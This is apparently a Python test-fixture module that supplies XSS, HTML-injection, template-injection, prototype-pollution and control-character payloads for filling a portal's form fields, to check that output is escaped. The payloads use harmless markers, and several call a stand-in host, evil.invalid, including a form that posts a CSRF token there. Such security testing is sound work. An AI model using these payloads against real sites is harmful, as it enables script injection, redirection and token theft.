"""Texts that become something else where they are not shown as what they are: text.

What runs of them sets `window.pwned`, opens a dialog, or asks a host that is not the portal; what
becomes an element or an attribute bears the name `data-pwned`; what is computed says pwned49.
"""

HOST = "evil.invalid"
# For a short field; each is under 100 characters.
SHORT = (
    "<script data-pwned>pwned=1</script>",
    "<img data-pwned src=x onerror=pwned=1>",
    "<svg data-pwned onload=pwned=1>",
    '" data-pwned autofocus onfocus=pwned=1 x="',
    "' data-pwned onmouseover=pwned=1 x='",
    "</script><script data-pwned>alert(1)</script>",
    '--><i data-pwned x-data x-init="pwned=1">',
    '<a data-pwned href="javascript:pwned=1">x</a>',
    "javascript:pwned=1//https://x",
    "{{ 'pwned'|add:'49' }}{% debug %}${'pwned'+49}",
    "'+(pwned=1)+'",
    "<i data-pwned hx-get=//evil.invalid hx-trigger=load hx-on::load=pwned=1>",
    "]]><textarea></title></style><b data-pwned>",
    "\u2028pwned=1\u2029;alert(1)",
    "\x1b[31m\x1b]8;;https://evil.invalid\x07x\u202egnp\u2066\u200b",
    '<iframe data-pwned srcdoc="<script>top.pwned=1</script>">',
    "&lt;img data-pwned src=x onerror=pwned=1&gt;",
    'https://evil.invalid/"><i data-pwned>',
)
# For fields of any length.
LONG = (
    *SHORT,
    "<i data-pwned x-data=\"{ a: $el.ownerDocument.defaultView.pwned = 1 }\" @click='pwned=1'"
    " x-html=\"'<img src=x onerror=pwned=1>'\"></i>",
    "<form data-pwned action=//evil.invalid><input name=csrfmiddlewaretoken></form>",
    "<link data-pwned rel=stylesheet href=//evil.invalid/x.css><base data-pwned href=//evil.invalid"
    ">",
    "<meta data-pwned http-equiv=refresh content='0;url=//evil.invalid'>",
    "<style data-pwned>@import '//evil.invalid';</style>",
    "<p data-pwned style='background:url(//evil.invalid)'>",
    "<object data-pwned data=//evil.invalid></object><embed data-pwned src=//evil.invalid>",
    '<math data-pwned><mi xlink:href="data:x,<script>pwned=1</script>"></mi></math>',
    '<noscript><p title="</noscript><img data-pwned src=x onerror=pwned=1>">',
    '{"__proto__": {"pwned": 1}, "constructor": {"prototype": {"pwned": 1}}}',
)
ALL = "\n".join(LONG)


class Hostile:
    """Another one for each field; in the end every field had several, over some runs."""

    def __init__(self, begin: int = 0) -> None:
        self._at = begin

    def short(self, most: int = 100) -> str:
        """No longer than a column takes; two of them fit into more."""
        self._at += 7  # has no divisor with their number in common
        first, second = (SHORT[(self._at + step) % len(SHORT)] for step in (0, 5))
        return (f"{first} {second}" if most >= 200 else first)[:most]

    def long(self) -> str:
        return ALL


class Plain:
    """For who only wants the pages."""

    def short(self, most: int = 100) -> str:
        return "plain words"[:most]

    def long(self) -> str:
        return "plain words, and more of them"
